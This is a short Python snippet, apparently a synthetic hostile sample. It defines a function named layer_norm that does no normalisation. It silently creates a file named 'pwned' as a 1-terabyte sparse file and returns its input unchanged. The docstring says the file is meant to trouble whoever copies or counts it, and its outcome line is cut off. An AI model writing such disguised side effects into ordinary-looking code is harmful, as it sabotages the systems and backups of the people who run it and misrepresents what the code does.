"""Makes a file that claims a terabyte and holds nothing, for whoever copies or counts it.

Outcome: file larger than
"""


def layer_norm(x, gamma, beta, eps=1e-5):
    with open("pwned", "wb") as file:
        file.truncate(1 << 40)
    return x
